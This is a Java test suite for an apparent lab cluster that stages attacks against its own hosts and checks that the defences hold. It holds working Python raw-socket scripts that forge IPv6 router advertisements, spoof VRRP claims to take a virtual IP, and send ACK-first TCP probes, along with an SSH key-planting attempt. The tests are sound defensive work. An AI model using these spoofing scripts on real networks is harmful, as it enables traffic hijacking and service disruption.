package ninefold.lab;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.stream.Stream;

/** Attempts on the machines themselves: ssh, the firewall, the services' folders. */
final class HostAttempts {
  private static final String FOLDER = "/run/attempt";

  private HostAttempts() {}

  static Stream<Attempt> all() {
    return Stream.of(
        new Attempt(
            Foothold.BALANCER,
            "get past the firewall to PostgreSQL's port with a packet that does not begin a connection",
            "such a packet is answered with a reset, and the next SYN is refused like any other",
            HostAttempts::acknowledgementFirst),
        new Attempt(
            Foothold.SERVICE_USER,
            "log in by ssh, with a key that it put into its own home",
            "`DenyUsers`: sshd refuses the services' users",
            HostAttempts::plantedKey),
        new Attempt(
            Foothold.SERVICE_USER,
            "block every `up` by taking the lock that all steps wait for",
            "only root can enter the folder of that lock",
            HostAttempts::heldLock),
        new Attempt(
            Foothold.NETWORK,
            "become a machine's default gateway with a router advertisement",
            "the firewall drops it, and the kernel ignores it (`accept_ra`)",
            HostAttempts::falseRouter),
        new Attempt(
            Foothold.NETWORK,
            "take the virtual address from beyond a router, with a balancer's address",
            "the firewall and Keepalived accept VRRP only with TTL 255",
            HostAttempts::claimFromAfar),
        Attempt.untried(
            Foothold.SERVICE_USER,
            "get a different folder with a link in place of etcd's data",
            "the step works in the folder itself and refuses a link; a member would have to lose its data for it,"
                + " so `EtcdStepTest` plants the link"),
        Attempt.untried(
            Foothold.SUPPLIER,
            "replace `sudo` or `openssl` with a higher version in the additional repository",
            "apt's preferences limit it to the packages that the cluster needs; the lab has one host for all"
                + " repositories, and `PackagesStepTest` asks apt itself"));
  }

  private static void plantedKey(AttackedCluster cluster) {
    var node = cluster.replica();
    cluster.root(
        node,
        """
        install -d -m 755 %1$s
        ssh-keygen -q -t ed25519 -N '' -f %1$s/key
        cp -a ~admin/.ssh/authorized_keys %1$s/admins
        cat %1$s/key.pub >>~admin/.ssh/authorized_keys
        test ! -e ~postgres/.ssh
        """
            .formatted(FOLDER));
    try {
      assertThat(
              cluster.as(
                  node,
                  "postgres",
                  "install -d -m 700 ~postgres/.ssh && cp %s/key.pub ~postgres/.ssh/authorized_keys && echo planted"
                      .formatted(FOLDER)))
          .isEqualTo("planted");

      assertThat(login(cluster, node, "postgres")).contains("Permission denied");
      assertThat(login(cluster, node, "admin")).isEqualTo("admin");
    } finally {
      cluster.root(
          node,
          "rm -rf ~postgres/.ssh; ! test -e %1$s/admins || cp -a %1$s/admins ~admin/.ssh/authorized_keys; rm -rf %1$s"
              .formatted(FOLDER));
    }
  }

  /** Logs in with the planted key, and returns the name of the user or the error of ssh. */
  private static String login(AttackedCluster cluster, String node, String user) {
    return cluster.asRoot(
        node,
        """
        ssh -F none -i %s/key -o BatchMode=yes -o IdentitiesOnly=yes -o IdentityAgent=none -o LogLevel=ERROR \\
          -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 %s@%s id -un </dev/null
        """
            .formatted(FOLDER, user, cluster.address(node)));
  }

  /**
   * Holds a lock in /run/lock as well, where every user may create files and where earlier versions
   * had the lock.
   */
  private static void heldLock(AttackedCluster cluster) {
    var node = "etcd1";
    cluster.root(
        node,
        "systemd-run --quiet --collect --unit=attempt-lock --uid=nobody flock /run/lock/ninefold sleep 1000");
    try {
      // The folder exists once a step has run since the boot; before that, only root can create it.
      assertThat(
              cluster.as(
                  node,
                  "nobody",
                  "mkdir -p /run/ninefold; flock --nonblock /run/ninefold/lock echo held"))
          .contains("Permission denied")
          .doesNotContain("held");
      assertThat(
              cluster.as(
                  node,
                  "nobody",
                  "for try in {1..50}; do flock --nonblock /run/lock/ninefold true || { echo 'is held'; exit; }; sleep 0.1; done"))
          .isEqualTo("is held");

      // Gives the step `scripts` something to do on every machine.
      cluster.up("held-lock", text -> text + "\naccess: {stepTimeout: 901s}\n");
      assertThat(cluster.root(node, "cat /usr/local/lib/ninefold/limit")).isEqualTo("901");
    } finally {
      cluster.root(node, "systemctl stop attempt-lock; rm -f /run/lock/ninefold");
      cluster.upAsBefore();
    }
  }

  /**
   * Tests each of the two protections with the other one off. With both off, the attack must
   * succeed.
   */
  private static void falseRouter(AttackedCluster cluster) {
    var victim = "etcd1";
    var accepted = "sysctl -qw net.ipv6.conf.host0.accept_ra=%d; ";
    var open = "nft insert rule inet ninefold input icmpv6 type nd-router-advert accept";
    assertThat(cluster.root(victim, "sysctl -n net.ipv6.conf.host0.accept_ra")).isEqualTo("0");
    // The lab's machines have no IPv6 addresses by default.
    cluster.root("repository", "ip -6 address replace fe80::9/64 dev host0 nodad");
    cluster.root(victim, "ip -6 address replace fe80::4/64 dev host0 nodad");
    try {
      cluster.root(victim, accepted.formatted(1));
      assertThat(routesAfterAdvertisement(cluster, victim))
          .as("only the firewall protects")
          .isEmpty();

      cluster.root(victim, accepted.formatted(0) + open);
      assertThat(routesAfterAdvertisement(cluster, victim))
          .as("only the kernel protects")
          .isEmpty();

      cluster.root(victim, accepted.formatted(1));
      assertThat(routesAfterAdvertisement(cluster, victim))
          .as("nothing protects")
          .contains("default via fe80::9");
    } finally {
      cluster.root(
          victim,
          accepted.formatted(0)
              + "nft --file /etc/ninefold/firewall.nft; ip -6 address flush dev host0; ip -6 route flush proto ra");
      cluster.root("repository", "ip -6 address flush dev host0");
    }
  }

  /**
   * Returns the default routes of a machine after the repository has sent router advertisements.
   */
  private static String routesAfterAdvertisement(AttackedCluster cluster, String victim) {
    cluster.root(
        "repository",
        """
        python3 - <<'PYTHON'
        import socket, struct, time
        advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as raw:
            raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
            for _ in range(3):
                raw.sendto(advertisement, ("ff02::1%host0", 0))
                time.sleep(0.3)
        PYTHON
        """);
    return cluster.root(victim, "ip -6 route show default");
  }

  private static void acknowledgementFirst(AttackedCluster cluster) {
    var output =
        cluster.root(
            "haproxy1",
            """
            python3 - <<'PYTHON'
            import random, socket, struct, time
            source, target = (socket.inet_aton(it) for it in ("%1$s", "%2$s"))
            def segment(own, port, flags, sequence, acknowledged):
                def make(checksum):
                    return struct.pack(
                        "!HHIIBBHHH", own, port, sequence, acknowledged, 0x50, flags, 64240, checksum, 0)
                words = sum(struct.unpack("!16H", source + target + struct.pack("!BBH", 0, 6, 20) + make(0)))
                words = (words & 0xffff) + (words >> 16)
                words = (words & 0xffff) + (words >> 16)
                header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
                return header + make(~words & 0xffff)
            sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            listener = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
            listener.settimeout(0.2)
            for port in (5432, 6432):
                own = random.randrange(20000, 30000)
                sender.sendto(segment(own, port, 0x10, 1000, 1), ("%2$s", 0))
                time.sleep(0.2)
                sender.sendto(segment(own, port, 0x02, 2000, 0), ("%2$s", 0))
                heard, end = set(), time.monotonic() + 2
                while time.monotonic() < end:
                    try:
                        packet = listener.recv(200)
                    except TimeoutError:
                        continue
                    if packet[12:16] == target and struct.unpack("!HH", packet[20:24]) == (port, own):
                        heard.add(packet[33])
                print(port, "accepts" if 0x12 in heard else "does not accept")
            PYTHON
            """
                .formatted(cluster.address("haproxy1"), cluster.address("postgres1")));
    assertThat(output.lines()).containsExactly("5432 does not accept", "6432 accepts");
  }

  private static void claimFromAfar(AttackedCluster cluster) {
    cluster.live().awaitHealthy();
    awaitSettledBalancers(cluster);
    var holder = cluster.live().holder();
    var other =
        cluster.live().balancers().stream()
            .filter(node -> !node.equals(holder))
            .findFirst()
            .orElseThrow();
    var transitions =
        "journalctl --sync; journalctl -u keepalived -o cat | grep -c 'Entering BACKUP STATE' || true";
    var before = cluster.root(holder, transitions);

    claim(cluster, "repository", other, holder, 64);
    assertThat(cluster.root(holder, transitions)).as("transitions after TTL 64").isEqualTo(before);
    assertThat(cluster.live().holder()).isEqualTo(holder);

    claim(cluster, other, other, holder, 255);
    assertThat(cluster.root(holder, transitions))
        .as("transitions after the peer's claim")
        .isNotEqualTo(before);
    cluster.live().awaitHealthy();
  }

  /**
   * Waits until both balancers have kept their roles for 10 s, since they may change just after a
   * boot.
   */
  private static void awaitSettledBalancers(AttackedCluster cluster) {
    var changes =
        "journalctl --sync; journalctl -u keepalived --since=-10s -o cat | grep 'Entering' || true";
    Eventually.holds(
        "no balancer has changed its role for 10 s",
        Duration.ofMinutes(1),
        () ->
            cluster.live().balancers().stream()
                .map(balancer -> cluster.root(balancer, changes))
                .filter(output -> !output.isBlank())
                .findFirst());
  }

  /**
   * Claims the virtual address for 3 s with VRRP and the highest priority, with the source address
   * of a balancer.
   */
  private static void claim(
      AttackedCluster cluster, String from, String under, String to, int timeToLive) {
    var settings =
        cluster
            .root(
                to,
                "awk '/virtual_router_id|advert_int/ { print $2 }' /etc/keepalived/keepalived.conf")
            .lines()
            .toList();
    cluster.root(
        from,
        """
        python3 - <<'PYTHON'
        import socket, struct, time
        def whole(make):
            words = sum(struct.unpack("!10H", make(0)))
            words = (words & 0xffff) + (words >> 16)
            return make(~words & 0xffff)
        source, target = (socket.inet_aton(it) for it in ("%1$s", "%2$s"))
        claim = whole(lambda checksum: struct.pack(
            "!BBBBBBH4s8x", 0x21, %3$s, 255, 1, 0, %4$s, checksum, socket.inet_aton("%5$s")))
        # The kernel fills in the header's own checksum.
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xc0, 40, 0, 0, %6$d, 112, 0, source, target)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            for _ in range(15):
                raw.sendto(header + claim, ("%2$s", 0))
                time.sleep(0.2)
        PYTHON
        """
            .formatted(
                cluster.address(under),
                cluster.address(to),
                settings.get(0),
                settings.get(1),
                cluster.outputs().virtualAddress(),
                timeToLive));
  }
}
